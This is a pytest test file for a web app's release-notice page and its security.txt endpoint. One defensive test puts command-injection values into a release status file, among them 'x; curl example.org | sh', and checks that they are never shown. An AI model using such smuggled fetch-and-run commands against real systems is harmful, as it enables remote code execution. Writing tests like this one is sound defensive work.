"""Which release runs here: what the owner is told of a newer one, and what whoever finds a hole is told."""

import json
import os
import re
from datetime import UTC, datetime, timedelta
from html import unescape
from pathlib import Path
from typing import Any

import pytest

from axe import violations
from browsers import needs_chromium
from hingewall import __version__
from hingewall_web.pages import release
from hingewall_web.server.services import Releases

PIN = "482915"
FOUND = {
    "looked": 1795348800, "source": "https://example.org/releases", "error": "", "version": "7.0.0",
    "released": "2026-12-01", "bundle": "hingewall-7.0.0.bundle",
    "notes": "- The beep is softer.\n- <b>Bold</b> new sounds.",
}  # fmt: skip


def releases_in(folder: Path) -> Releases:
    return Releases(*(folder / name for name in ("latest.json", "offered.json", "progress.json", "upload.bundle")))


@pytest.fixture
def noted(wall: Any, tmp_path: Path) -> Any:
    """Have the look for releases leave that, on this wall."""

    def note(**changes: Any) -> str:
        wall.services.releases = releases_in(tmp_path)
        wall.services.releases.latest.write_text(json.dumps(FOUND | changes))
        return unescape(wall.owner().get("/care").text)

    return note


def test_the_owner_reads_what_is_new_while_it_is_not_here_yet(wall: Any, noted: Any) -> None:
    page = noted()
    assert "Version 7.0.0 is out" in page
    assert "- The beep is softer." in page
    assert "could not fetch hingewall-7.0.0.bundle from https://example.org/releases yet" in page
    assert "<b>Bold</b>" not in wall.owner().get("/care").text, "notes are text"
    for word in ("7.0.0", __version__):
        assert word not in wall.client().get("/care").text, "how old a wall is strangers need not know"


def test_without_a_newer_release_the_owner_reads_how_that_is_known(wall: Any, noted: Any) -> None:
    assert "Nobody looks for newer versions" in wall.owner().get("/care").text
    assert "No newer version was out on Sunday 22 November 2026." in noted(version=__version__)
    assert "could not be found out on Sunday 22 November 2026" in noted(version="0.0.1", error="can't be had")
    assert "Version 7.0.0 is out" in noted(error="can't be had"), "what was known before is still so"


def test_what_a_taken_over_process_says_is_not_shown_to_be_typed_as_root_and_holds_nobody_up(
    wall: Any, noted: Any
) -> None:
    for changes in ({"bundle": "x; curl example.org | sh"}, {"version": "9.0.0;sh"}, {"notes": "x" * 2**20}):
        assert "Nobody looks for newer versions" in noted(**changes)
    wall.services.releases.latest.unlink()
    os.mkfifo(wall.services.releases.latest)  # which nobody ever writes to
    assert "Nobody looks for newer versions" in wall.owner().get("/care").text


@pytest.mark.parametrize("text", ["", "{", "[]", '{"looked": "x"}'])
def test_a_note_that_is_none_is_as_if_nobody_had_looked(wall: Any, noted: Any, text: str) -> None:
    noted()
    wall.services.releases.latest.write_text(text)
    assert "Nobody looks for newer versions" in wall.owner().get("/care").text


@pytest.mark.parametrize(
    ("width", "theme"),
    [pytest.param(*one, marks=needs_chromium) for one in ((360, "dark"), (390, "light"), (1280, "light"))],
)
def test_the_news_are_readable_on_every_screen(
    wall: Any, noted: Any, chromium: Any, address: str, width: int, theme: str
) -> None:
    noted()
    context = chromium.new_context(viewport={"width": width, "height": 800}, color_scheme=theme)
    page = context.new_page()
    page.goto(f"{address}/login?then=/care")
    page.locator("#pin").fill(PIN)
    page.locator("form button").last.click()
    page.get_by_role("heading", name="Version 7.0.0 is out").scroll_into_view_if_needed()
    assert page.evaluate("document.documentElement.scrollWidth") <= width, "nothing is cut off"
    assert violations(page) == []
    context.close()


# --- /.well-known/security.txt ---


def parsed(text: str) -> dict[str, list[str]]:
    """RFC 9116, 2.2: lines of a name, a colon and a value."""
    fields: dict[str, list[str]] = {}
    for line in text.splitlines():
        name, value = re.fullmatch(r"([A-Za-z-]+): (\S.*)", line).groups()  # type: ignore[union-attr]
        fields.setdefault(name.lower(), []).append(value)
    return fields


def test_a_release_says_where_to_report_a_hole_for_a_year(
    wall: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    told = tmp_path / "release.json"
    told.write_text('{"version":"1.2.3","released":"2026-12-01","contact":"https://example.org/report"}')
    monkeypatch.setattr(release, "TOLD", told)
    answer = wall.client().get("/.well-known/security.txt")
    assert answer.content_type == "text/plain; charset=utf-8"
    fields = parsed(answer.text)
    assert fields.keys() == {"contact", "expires", "preferred-languages"}
    assert fields["contact"] == ["https://example.org/report"]
    (expires,) = fields["expires"]
    published = datetime(2026, 12, 1, tzinfo=UTC)
    assert published < datetime.fromisoformat(expires) < published + timedelta(days=365)


def test_a_checkout_is_nobodys_release(wall: Any) -> None:
    answer = wall.client().get("/.well-known/security.txt")
    assert answer.status_code == 404
    assert "SECURITY.md" in answer.text
